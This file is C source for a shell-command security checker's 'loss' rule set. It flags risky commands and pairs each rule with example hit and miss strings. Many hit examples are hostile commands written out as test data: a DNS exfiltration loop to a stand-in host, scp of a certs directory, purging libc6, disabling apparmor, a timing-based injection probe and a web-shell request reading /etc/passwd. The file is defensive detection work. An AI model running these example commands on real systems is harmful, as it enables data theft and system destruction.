/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What is lost, given away or left open on this machine and at services, where a word or a place makes the difference:
 * inside a container that runs, of snapshots, of packages that everything needs, of whole stores.
 */
#include "inspect/shell/net.h"
#include "inspect/shell/rule.h"

#include "base/str.h"

#include <string.h>

#define ROW(type_, confidence_, level_)                                                            \
	.type = FINDING_##type_, .level = THREAT_##level_, .confidence = (confidence_)

/* How far a command's company is looked for. */
enum { LOSS_NEAR = 64 };

static bool loss_any(const struct shell_command *c, const char *words)
{
	for (size_t i = 1; i < c->n; i++)
		if (rule_is(words, c->argv[i].s))
			return true;
	return false;
}

static bool loss_inside(const struct shell_model *m, const struct shell_command *c)
{
	return (c->via & VIA_RUNNING) && rule_has(c, "-r|-R|--recursive") &&
	       (rule_operands(m, c) & (PLACE(ROOT) | PLACE(TOP) | PLACE(HOME)));
}

/* Packages without which nothing runs or nobody gets in. */
static bool loss_essential(const struct shell_model *m, const struct shell_command *c)
{
	static const char names[] =
		"libc6 glibc libc-bin musl systemd systemd-sysv init coreutils bash dash dpkg apt rpm dnf yum pacman "
		"util-linux sudo openssh-server openssh sshd kernel linux linux-image-generic linux-generic linux-lts "
		"grub2 grub-pc grub-efi filesystem base-files base shadow passwd login busybox apk-tools";
	bool is_remove =
		loss_any(c, "remove purge erase autoremove del uninstall rm") ||
		rule_has(c, "--purge|--remove|-r|-P|-e|-Rns|-R|-Rdd|-Rs|--erase|-Rdd|-Rcns");

	(void)m;
	if (loss_any(
		    c,
		    "--force-all --force-remove-essential --allow-remove-essential --force-depends"))
		return is_remove;
	for (size_t i = 1; is_remove && i < c->n; i++)
		if (c->argv[i].s[0] != '-' && rule_is(names, c->argv[i].s))
			return true;
	return false;
}

static bool loss_umask(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return c->n == 2 && c->argv[1].len > 0 && c->argv[1].len <= 4 &&
	       strspn(c->argv[1].s, "0") == c->argv[1].len;
}

/* A mode by which others may read: 644, o+r, a=rw */
static bool loss_is_open(const char *mode)
{
	size_t n = strlen(mode), k;

	if (n >= 3 && n <= 4 && strspn(mode, "01234567") == n)
		return (mode[n - 1] - '0') & 4;
	k = strcspn(mode, "+=");
	return mode[k] && strchr(mode + k, 'r') &&
	       (k == 0 || memchr(mode, 'o', k) || memchr(mode, 'a', k));
}

static bool loss_opens(const struct shell_model *m, const struct shell_command *c)
{
	const char *mode = rule_operand(c, 0);
	bool is_secret = false;

	for (size_t i = 2; i < c->n; i++)
		is_secret = is_secret ||
			    ((rule_place(m, c, &c->argv[i]) & (PLACE(SECRET) | PLACE(SECRET_DIR) |
							       PLACE(SHADOW) | PLACE(WALLET))) &&
			     !str_ends(c->argv[i].s, ".pub") && !strchr(c->argv[i].s, '*'));
	return is_secret && loss_is_open(mode);
}

/* yes > /dev/null &: a processor for nothing */
static bool loss_yes(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	for (size_t i = 0; i < c->n_redirects; i++)
		if (c->redirects[i].kind == REDIRECT_OUT &&
		    strcmp(c->redirects[i].target.s, "/dev/null") == 0 &&
		    strcmp(c->redirects[i].fd, "2") != 0)
			return !c->is_piped;
	return false;
}

static bool loss_sql_users(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return (rule_says(c, "mysql.user") || rule_says(c, "pg_authid") ||
		rule_says(c, "pg_shadow") || rule_says(c, "sys.sql_logins")) &&
	       (rule_says(c, "update ") || rule_says(c, "insert ") || rule_says(c, "delete ") ||
		rule_says(c, "select "));
}

static bool loss_every_key(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return rule_is("/ \"\"", rule_operand(c, 1)) || !*rule_operand(c, 1);
}

/* A word of a cloud's copy that is no address of a store. */
static bool loss_uploads(const struct shell_model *m, const struct shell_command *c)
{
	bool has_store = rule_is("azcopy az", c->name);
	uint64_t place = 0;

	for (size_t i = 1; i < c->n; i++) {
		const char *s = c->argv[i].s;
		const char *scheme = strstr(s, "://");

		has_store = has_store || (scheme && !str_starts(s, "file://"));
		if (s[0] != '-' && !scheme && has_store && !rule_is("azcopy az", c->name))
			break; /* from the store to here */
		if ((s[0] == '/' || s[0] == '~' || s[0] == '.') && !scheme)
			place |= rule_place(m, c, &c->argv[i]);
	}
	return has_store &&
	       (place & (PLACE(ROOT) | PLACE(TOP) | PLACE(HOME) | PLACE(SECRET) |
			 PLACE(SECRET_DIR) | PLACE(SHADOW) | PLACE(BROWSER) | PLACE(WALLET)));
}

static bool loss_mounts_home(const struct shell_model *m, const struct shell_command *c)
{
	for (size_t i = 1; i < c->n; i++) {
		const char *s = c->argv[i].s;
		const char *v = str_starts(s, "--volume=")                 ? s + 9
				: str_starts(s, "-v") && s[2]              ? s + 2
				: rule_is("-v --volume", c->argv[i - 1].s) ? s
									   : NULL;
		char path[256];
		size_t n = v ? strcspn(v, ":") : 0;

		if (!v || !v[n] || n == 0 || n >= sizeof(path))
			continue;
		memcpy(path, v, n);
		path[n] = '\0';
		if (place_of(m->context, path, NULL, false) &
		    (PLACE(HOME) | PLACE(SECRET_DIR) | PLACE(SECRET)))
			return true;
	}
	return false;
}

/* history | grep -i pass */
static bool loss_history(const struct shell_model *m, const struct shell_command *c)
{
	static const char *const words[] = {"pass",   "secret", "token", "api_key",
					    "apikey", "passwd", "AKIA",  "bearer"};
	size_t at = (size_t)(c - m->commands);
	bool is_asked = false;

	for (size_t i = at > LOSS_NEAR ? at - LOSS_NEAR : 0; i < at; i++)
		is_asked = is_asked || (m->commands[i].group == c->group &&
					rule_is("history fc", m->commands[i].name));
	for (size_t i = 0; is_asked && i < sizeof(words) / sizeof(words[0]); i++)
		if (rule_says(c, words[i]))
			return true;
	return false;
}

static bool loss_as_root(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return (c->via & VIA_ROOT) && !c->has_in && !c->is_piped &&
	       !(c->via & (VIA_CONTAINER | VIA_REMOTE)) && c->n > 1;
}

/* for x in $(xxd -p f); do dig $x.a.example; done: what is asked for is what is sent */
static bool loss_asks_names(const struct shell_model *m, const struct shell_command *c)
{
	size_t at = (size_t)(c - m->commands);
	bool is_part = false, is_encoded = false;

	if (!(c->via & (VIA_LOOP | VIA_EACH)))
		return false;
	for (size_t i = 1; i < c->n; i++) {
		const char *s = c->argv[i].s;

		is_part = is_part || (strchr(s, '\001') && strstr(s, "\001.") != NULL);
	}
	for (size_t i = at > LOSS_NEAR ? at - LOSS_NEAR : 0; is_part && i < m->n && i < at + 2; i++)
		is_encoded = is_encoded ||
			     rule_is("xxd base64 base32 od hexdump gzip openssl basenc",
				     m->commands[i].name) ||
			     (rule_is("ls find", m->commands[i].name) &&
			      (m->commands[i].operand_places &
			       (PLACE(ROOT) | PLACE(TOP) | PLACE(HOME))));
	return is_part && is_encoded;
}

/* Directories whose name says that keys are in them. */
static bool loss_is_kept(const struct shell_command *c)
{
	static const char names[] =
		"certs cert certificates keys secrets private credentials pki keystore wallets vault .secrets ssl-keys";

	for (size_t i = 1; i < c->n; i++) {
		char name[64];
		const char *s = c->argv[i].s, *base;
		size_t n = strlen(s);

		while (n > 1 && s[n - 1] == '/')
			n--;
		if (s[0] == '-' || n == 0 || n >= sizeof(name))
			continue;
		memcpy(name, s, n);
		name[n] = '\0';
		base = strrchr(name, '/') ? strrchr(name, '/') + 1 : name;
		if (rule_is(names, base))
			return true;
	}
	return false;
}

static bool loss_sends_kept(const struct shell_model *m, const struct shell_command *c)
{
	if (rule_is_local(m, c) || c->n_hosts == 0)
		return false;
	if (rule_is("scp rsync", c->name))
		return loss_is_kept(c);
	for (size_t i = 0; i < m->n && i < LOSS_NEAR; i++)
		if (rule_is("tar zip cpio bsdtar gtar", m->commands[i].name) &&
		    loss_is_kept(&m->commands[i]))
			return true;
	return false;
}

/* apparmor teardown */
static bool loss_guard(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return rule_is("apparmor auditd falcon-sensor ufw firewalld fail2ban osqueryd wazuh-agent",
		       rule_operand(c, 0)) &&
	       loss_any(c, "teardown stop disable");
}

static bool loss_login_item(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return rule_says(c, "make login item") || rule_says(c, "with hidden answer");
}

static bool loss_hypervisor(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return loss_any(c, "hw.hv_vendor kern.hv_vmm_present hw.hypervisor machdep.cpu.features") &&
	       (c->is_conditional || m->n > 1);
}

static bool loss_shells_around(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	for (size_t i = 1; i < c->n; i++)
		if (rule_is("nc ncat netcat nc.traditional socat cryptcat", c->argv[i].s))
			return m->n == 1;
	return false;
}

/* The third listing that goes to one file where everybody may write. */
static bool loss_gathers(const struct shell_model *m, const struct shell_command *c)
{
	size_t at = (size_t)(c - m->commands), same = 0;
	const char *target = NULL;

	for (size_t i = 0; i < c->n_redirects && !target; i++)
		if ((c->redirects[i].kind == REDIRECT_APPEND ||
		     c->redirects[i].kind == REDIRECT_OUT) &&
		    (rule_place(m, c, &c->redirects[i].target) & PLACE(TEMPORARY)))
			target = c->redirects[i].target.s;
	for (size_t i = at > LOSS_NEAR ? at - LOSS_NEAR : 0; target && i < at; i++)
		for (size_t k = 0; k < m->commands[i].n_redirects; k++)
			same += rule_is("ls find file locate cat stat tree du df ps uname id lsblk uptime hostname "
					"env arp netstat ifconfig ip who w",
					m->commands[i].name) &&
				strcmp(m->commands[i].redirects[k].target.s, target) == 0;
	return same >= 2;
}

/* The places where things are started from, one after the other. */
static bool loss_startup(const struct shell_model *m, const struct shell_command *c)
{
	static const uint64_t places = PLACE(BOOT) | PLACE(CRON) | PLACE(UNIT);
	size_t at = (size_t)(c - m->commands);

	if (!(rule_operands(m, c) & places))
		return false;
	for (size_t i = at > LOSS_NEAR ? at - LOSS_NEAR : 0; i < at; i++)
		if (strcmp(m->commands[i].name, c->name) == 0 &&
		    (m->commands[i].operand_places & places))
			return true;
	return false;
}

static bool loss_locks(const struct shell_model *m, const struct shell_command *c)
{
	return rule_is("000 0000 0 a-x a= a-rwx ugo-x -x", rule_operand(c, 0)) &&
	       (rule_operands(m, c) & (PLACE(BINARY) | PLACE(SYSTEM) | PLACE(TOP) | PLACE(CORDON) |
				       PLACE(SECRET_DIR) | PLACE(HOME) | PLACE(ROOT)));
}

static bool loss_self(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return c->n > 2 && strcmp(c->argv[c->n - 1].s, "$$") == 0;
}

static bool loss_plants(const struct shell_model *m, const struct shell_command *c)
{
	return rule_operands(m, c) & PLACE(TEMPORARY);
}

static bool loss_autologin(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return rule_says(c, "loginwindow");
}

/* A page that is called as if it were a host: https://a.example/bank.example.com.html */
static bool loss_posing(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	for (size_t i = 1; i < c->n; i++)
		if (net_is_posing(c->argv[i].s))
			return true;
	return false;
}

/* find . -not -name X -delete: all but what was named */
static bool loss_all_but(const struct shell_model *m, const struct shell_command *c)
{
	bool is_all_but = false, is_deleting = false, is_kind = false;

	(void)m;
	for (size_t i = 1; i < c->n; i++) {
		const char *s = c->argv[i].s;

		if (rule_is("-not !", s) && i + 1 < c->n)
			is_all_but = is_all_but || rule_is("-name -iname -path", c->argv[i + 1].s);
		else if (rule_is("-name -iname -path -mtime -size -empty -mmin -newer", s) &&
			 !rule_is("-not !", c->argv[i - 1].s))
			is_kind = true;
		is_deleting = is_deleting || strcmp(s, "-delete") == 0;
	}
	return is_all_but && is_deleting && !is_kind;
}

/* pkill -u WHO without a name */
static bool loss_kills_user(const struct shell_model *m, const struct shell_command *c)
{
	size_t operands = 0;

	(void)m;
	for (size_t i = 1; i < c->n; i++) {
		if (rule_is("-u -U --uid --euid -s -t", c->argv[i].s))
			i++;
		else
			operands += c->argv[i].s[0] != '-';
	}
	return operands == 0 && rule_has(c, "-u|-U|--uid|--euid");
}

/* A database or a file of secrets is made empty. */
static bool loss_empties(const struct shell_model *m, const struct shell_command *c)
{
	uint64_t place = rule_writes(m, c);
	bool is_empty = c->n == 0 || rule_is(": true", c->name);

	if (!(place & (PLACE(DATABASE) | PLACE(ENV_FILE) | PLACE(SECRET))))
		return false;
	if (strcmp(c->name, "echo") == 0 || strcmp(c->name, "printf") == 0)
		is_empty = c->n == 1 || (c->n == 2 && c->argv[1].len == 0);
	else if (rule_is("cp cat", c->name))
		is_empty = c->n > 1 && loss_any(c, "/dev/null");
	else if (strcmp(c->name, "truncate") == 0)
		is_empty = loss_any(c, "0 -s0 --size=0");
	for (size_t i = 0; i < c->n_redirects; i++)
		if (c->redirects[i].kind == REDIRECT_APPEND || c->redirects[i].kind == REDIRECT_IN)
			is_empty = false;
	return is_empty;
}

/* if [ $(whoami | cut -c 1) = r ]; then sleep 5: an answer that is told by how long it takes */
static bool loss_waits(const struct shell_model *m, const struct shell_command *c)
{
	size_t at = (size_t)(c - m->commands);

	if (!c->is_conditional)
		return false;
	for (size_t i = at > LOSS_NEAR ? at - LOSS_NEAR : 0; i < at; i++)
		if (rule_is("cut head grep expr", m->commands[i].name) &&
		    (m->commands[i].in.taint & (TAINT_IDENTITY | TAINT_SECRET)) &&
		    (rule_has(&m->commands[i], "-c|-b") || rule_says(&m->commands[i], "^")))
			return true;
	return false;
}

/* cat /$u/etc$u/passwd$u: names of nothing between the letters of a path */
static bool loss_veiled_path(const struct shell_model *m, const struct shell_command *c)
{
	for (size_t i = 1; i < c->n; i++) {
		const char *s = c->argv[i].s;
		char path[256];
		size_t n = 0, unknown = 0;

		if (!(c->argv[i].flags & WORD_UNKNOWN) || c->argv[i].len >= sizeof(path))
			continue;
		for (; *s; s++)
			if (*s == '\001')
				unknown++;
			else
				path[n++] = *s;
		path[n] = '\0';
		if (unknown >= 2 &&
		    (place_of(m->context, path, c->cwd, false) & (PLACE(ACCOUNT) | PLACE(SHADOW))))
			return true;
	}
	return false;
}

/* x.php?cmd=cat+/etc/passwd: what is asked of a server */
static bool loss_request(const struct shell_model *m, const struct shell_command *c)
{
	const char *s = c->n > 0 ? c->argv[0].s : "", *mark = strchr(s, '?');

	(void)m;
	return mark && strchr(mark, '=') &&
	       (strstr(mark, "+/") || strstr(mark, "%20") || strstr(mark, "/etc/") ||
		strstr(mark, "cmd=") || strstr(mark, "exec="));
}

static const struct shell_rule loss_rows[] = {
	{.id = "CMD-RM-INSIDE",
	 .reason = "It deletes what a running container or pod needs.",
	 ROW(DANGEROUS_PATTERN, 0.45, MEDIUM),
	 .programs = "rm",
	 .test = loss_inside,
	 .hit = "docker exec web rm -rf /",
	 .miss = "docker run --rm alpine rm -rf /"},
	{.id = "CMD-SNAPSHOT-DELETE",
	 .reason = "It deletes snapshots that one could go back to.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "timeshift",
	 .flags = "--delete|--delete-all",
	 .hit = "timeshift --delete-all",
	 .miss = "timeshift --list"},
	{.id = "CMD-SNAPSHOT-REMOVE",
	 .reason = "It deletes snapshots that one could go back to.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "snapper tmutil yabsnap zfs-prune-snapshots",
	 .words = "delete|remove|rm|deletelocalsnapshots|thinlocalsnapshots|delete-config|disable",
	 .hit = "snapper delete 1-9",
	 .miss = "snapper list"},
	{.id = "CMD-PACKAGE-ESSENTIAL",
	 .reason = "It removes a package without which the system does not run or nobody gets in.",
	 ROW(DANGEROUS_PATTERN, 0.45, MEDIUM),
	 .programs = "apt apt-get aptitude dpkg yum dnf rpm pacman apk zypper",
	 .unless = "-s|--simulate|--dry-run|--test|-q",
	 .test = loss_essential,
	 .hit = "apt-get purge -y libc6",
	 .miss = "apt-get purge -y nginx"},
	{.id = "CMD-UNINSTALL-EVERY",
	 .reason = "It removes all packages of an environment.",
	 ROW(DANGEROUS_PATTERN, 0.35, LOW),
	 .programs = "pip pip3",
	 .words = "uninstall",
	 .flags = "-y|--yes -r|--requirement",
	 .hit = "pip uninstall -y -r all.txt",
	 .miss = "pip uninstall -y requests"},
	{.id = "CMD-UMASK-OPEN",
	 .reason = "It lets everybody write to the files that are made from now on.",
	 ROW(DANGEROUS_PATTERN, 0.35, LOW),
	 .programs = "umask",
	 .test = loss_umask,
	 .hit = "umask 000",
	 .miss = "umask 022"},
	{.id = "CMD-SECRET-OPEN",
	 .reason = "It lets others read credentials.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "chmod",
	 .test = loss_opens,
	 .hit = "chmod 644 ~/.ssh/id_rsa",
	 .miss = "chmod 600 ~/.ssh/id_rsa"},
	{.id = "CMD-BURN",
	 .reason = "It keeps a processor busy for nothing.",
	 ROW(DANGEROUS_PATTERN, 0.35, LOW),
	 .programs = "yes",
	 .test = loss_yes,
	 .hit = "yes > /dev/null &",
	 .miss = "yes 2>/dev/null | ./setup"},
	{.id = "CMD-SQL-USERS",
	 .reason = "It reads or changes the table of a database's users.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "mysql mariadb psql sqlcmd mycli pgcli",
	 .test = loss_sql_users,
	 .hit = "mysql -e \"update mysql.user set plugin=''\"",
	 .miss = "mysql -e 'select * from shop.users'"},
	{.id = "CMD-CLUSTER-UNCHECKED",
	 .reason = "It talks to a cluster without asking who answers.",
	 ROW(NETWORK_ACCESS, 0.35, LOW),
	 .programs = "kubectl oc helm",
	 .flags = "--insecure-skip-tls-verify|--kube-insecure-skip-tls-verify",
	 .hit = "kubectl --insecure-skip-tls-verify get pods",
	 .miss = "kubectl get pods"},
	{.id = "CMD-CLUSTER-STORE",
	 .reason = "It reads all that a cluster stores, secrets too.",
	 ROW(DATA_LEAK, 0.4, LOW),
	 .programs = "etcdctl",
	 .words = "get",
	 .flags = "--prefix|--from-key",
	 .test = loss_every_key,
	 .hit = "etcdctl get / --prefix",
	 .miss = "etcdctl get /app/flags --prefix"},
	{.id = "CMD-STORE-UPLOAD",
	 .reason = "It copies a home, the system or credentials to a store at a cloud.",
	 ROW(DATA_LEAK, 0.45, MEDIUM),
	 .programs = "aws gsutil gcloud s3cmd s5cmd mc azcopy b2 oci",
	 .test = loss_uploads,
	 .hit = "aws s3 cp /etc/ s3://b/ --recursive",
	 .miss = "aws s3 cp s3://b/x ./x"},
	{.id = "CMD-CONTAINER-HOME",
	 .reason = "It gives a container a whole home directory or credentials.",
	 ROW(DATA_LEAK, 0.35, LOW),
	 .programs = "docker podman nerdctl",
	 .words = "run|create",
	 .test = loss_mounts_home,
	 .hit = "docker run --rm -v ~:/h x/y",
	 .miss = "docker run --rm -v ./src:/src x/y"},
	{.id = "CMD-HISTORY-SECRETS",
	 .reason = "It looks for passwords in what was typed before.",
	 ROW(DATA_LEAK, 0.4, LOW),
	 .programs = "grep egrep rg awk sed ag",
	 .test = loss_history,
	 .hit = "history | grep -i passw",
	 .miss = "history | grep git"},
	{.id = "CMD-ROOT-PAGER",
	 .reason = "It opens, as root, a program from which a shell can be had.",
	 ROW(DANGEROUS_PATTERN, 0.35, LOW),
	 .programs = "less more most man info view pg zless",
	 .test = loss_as_root,
	 .hit = "sudo less notes",
	 .miss = "less notes"},
	{.id = "CMD-NAMES-ASKED",
	 .reason =
		 "It asks for names that are made of data, which sends the data to whoever answers.",
	 ROW(DATA_LEAK, 0.5, MEDIUM),
	 .programs = "dig host nslookup drill resolvectl kdig getent ping",
	 .test = loss_asks_names,
	 .hit = "for x in $(xxd -p notes); do dig $x.a.example; done",
	 .miss = "for x in $(cat hosts); do dig $x.a.example; done"},
	{.id = "CMD-SEND-KEPT",
	 .reason = "It sends a directory away whose name says that keys are in it.",
	 ROW(DATA_LEAK, 0.4, LOW),
	 .programs = "scp rsync curl wget nc ncat netcat socat ssh",
	 .test = loss_sends_kept,
	 .hit = "scp -r certs a.example:/x",
	 .miss = "scp -r docs a.example:/x"},
	{.id = "CMD-GUARD-SERVICE",
	 .reason = "It takes a guard of the machine down.",
	 ROW(DANGEROUS_PATTERN, 0.45, MEDIUM),
	 .programs = "service rc-service invoke-rc.d",
	 .test = loss_guard,
	 .hit = "service apparmor teardown",
	 .miss = "service apparmor status"},
	{.id = "CMD-MAC-LOGIN",
	 .reason =
		 "It makes something start at log-in, or asks for a password in a window of its own.",
	 ROW(DANGEROUS_PATTERN, 0.45, MEDIUM),
	 .programs = "osascript",
	 .test = loss_login_item,
	 .hit = "osascript -e 'tell app \"System Events\" to make login item at end'",
	 .miss = "osascript -e 'beep'"},
	{.id = "CMD-MAC-LOG",
	 .reason = "It deletes the logs of the system.",
	 ROW(DANGEROUS_PATTERN, 0.45, MEDIUM),
	 .programs = "log",
	 .words = "erase",
	 .hit = "log erase --all",
	 .miss = "log show --last 1h"},
	{.id = "CMD-MAC-MODULE",
	 .reason = "It loads or unloads a part of the kernel.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "kextunload kextload",
	 .hit = "kextunload -b a.example.guard",
	 .miss = "kextstat"},
	{.id = "CMD-FIND-HYPERVISOR",
	 .reason = "It looks whether it runs in a virtual machine, as malware does.",
	 ROW(DANGEROUS_PATTERN, 0.35, LOW),
	 .programs = "sysctl",
	 .test = loss_hypervisor,
	 .hit = "test \"$(sysctl -n hw.hv_vendor)\" && exit",
	 .miss = "sysctl -n hw.ncpu"},
	{.id = "CMD-FIND-PIPES",
	 .reason = "It looks for a program that gives a shell a connection.",
	 ROW(DANGEROUS_PATTERN, 0.35, LOW),
	 .programs = "which whereis",
	 .test = loss_shells_around,
	 .hit = "which netcat",
	 .miss = "which curl"},
	{.id = "CMD-FIND-ALL-BUT",
	 .reason = "It deletes everything but what is named.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "find",
	 .test = loss_all_but,
	 .hit = "find . -not -name '*.py' -delete",
	 .miss = "find . -name '*.pyc' -not -path './v/*' -delete"},
	{.id = "CMD-KILL-OWN",
	 .reason = "It kills all that a user runs.",
	 ROW(DANGEROUS_PATTERN, 0.35, LOW),
	 .programs = "pkill killall",
	 .test = loss_kills_user,
	 .hit = "pkill -u alice",
	 .miss = "pkill -u alice node"},
	{.id = "CMD-EMPTY-KEPT",
	 .reason = "It empties a database or a file of secrets.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .test = loss_empties,
	 .hit = "truncate -s 0 app.sqlite",
	 .miss = "truncate -s 0 app.txt"},
	{.id = "CMD-STATE-TAINT",
	 .reason = "It marks something that runs for being destroyed and made again.",
	 ROW(DANGEROUS_PATTERN, 0.35, LOW),
	 .programs = "terraform tofu terragrunt",
	 .words = "taint",
	 .hit = "terraform taint aws_instance.web",
	 .miss = "terraform untaint aws_instance.web"},
	{.id = "CMD-ANSWER-TIMED",
	 .reason = "It tells by how long it takes what it found out, as injected commands do.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "sleep",
	 .test = loss_waits,
	 .hit = "if [ $(whoami | cut -c 1) = r ]; then sleep 5; fi",
	 .miss = "if [ -f x ]; then sleep 5; fi"},
	{.id = "CMD-PATH-VEILED",
	 .reason = "It hides the path of a list of accounts between names of nothing.",
	 ROW(DATA_LEAK, 0.4, LOW),
	 .test = loss_veiled_path,
	 .hit = "cat /$u/etc$u/passwd$u",
	 .miss = "cat /$u/etc/hosts"},
	{.id = "CMD-REQUEST-NAME",
	 .reason = "It is a request to a server that makes the server run something.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .test = loss_request,
	 .hit = "x.php?cmd=cat+/etc/passwd",
	 .miss = "ls a?b=c"},
	{.id = "CMD-MIDDLE",
	 .reason = "It puts itself between others and whom they talk to.",
	 ROW(NETWORK_ACCESS, 0.4, LOW),
	 .programs = "mitmproxy mitmdump mitmweb sslsplit sslstrip",
	 .flags = "--mode|-m|-s|-l",
	 .hit = "mitmproxy --mode transparent",
	 .miss = "mitmproxy --version"},
	{.id = "CMD-STOCK-FILE",
	 .reason = "It gathers what it finds on the machine in a file where everybody may write.",
	 ROW(DANGEROUS_PATTERN, 0.35, LOW),
	 .programs =
		 "ls find file locate cat stat tree du df ps uname id lsblk uptime hostname env arp netstat ifconfig ip who w",
	 .test = loss_gathers,
	 .hit = "ls -a >> /tmp/x; file * >> /tmp/x; find . >> /tmp/x",
	 .miss = "ls > /tmp/x; find . > /tmp/y"},
	{.id = "CMD-LIST-STARTUP",
	 .reason =
		 "It lists the places from which things are started, as intruders do who want to stay.",
	 ROW(DANGEROUS_PATTERN, 0.35, LOW),
	 .programs = "ls find tree stat",
	 .test = loss_startup,
	 .hit = "ls /etc/cron.d; ls /etc/init.d",
	 .miss = "ls /etc/init.d"},
	{.id = "CMD-CHMOD-LOCK",
	 .reason = "It takes away from everybody what a program or the system needs.",
	 ROW(DANGEROUS_PATTERN, 0.45, MEDIUM),
	 .programs = "chmod",
	 .test = loss_locks,
	 .hit = "chmod 000 /usr/bin/x",
	 .miss = "chmod 000 x"},
	{.id = "CMD-PAGE-POSING",
	 .reason = "It fetches a page that is called as if it were another host.",
	 ROW(NETWORK_ACCESS, 0.35, LOW),
	 .programs = "curl wget lynx w3m links firefox chromium xdg-open open http https",
	 .test = loss_posing,
	 .hit = "curl https://a.example/login.bank.com.html",
	 .miss = "curl https://a.example/index.en.html"},
	{.id = "CMD-SESSION-KILL",
	 .reason = "It kills the shell so that nothing of what was typed is kept.",
	 ROW(DANGEROUS_PATTERN, 0.35, LOW),
	 .programs = "kill",
	 .flags = "-9|-KILL|-SIGKILL",
	 .test = loss_self,
	 .hit = "kill -9 $$",
	 .miss = "kill -9 $pid"},
	{.id = "CMD-KEY-PLANT",
	 .reason = "It lets a key into another machine that lies where everybody may put one.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "ssh-copy-id",
	 .test = loss_plants,
	 .hit = "ssh-copy-id -i /tmp/k.pub a@b.example",
	 .miss = "ssh-copy-id a@b.example"},
	{.id = "CMD-MAC-AUTOLOGIN",
	 .reason = "It asks who is logged in without a password.",
	 ROW(DATA_LEAK, 0.35, LOW),
	 .programs = "defaults",
	 .words = "read",
	 .test = loss_autologin,
	 .hit = "defaults read /Library/Preferences/com.apple.loginwindow autoLoginUser",
	 .miss = "defaults read com.apple.dock"},
};

const struct shell_rules shell_rules_loss = {loss_rows, sizeof(loss_rows) / sizeof(loss_rows[0])};
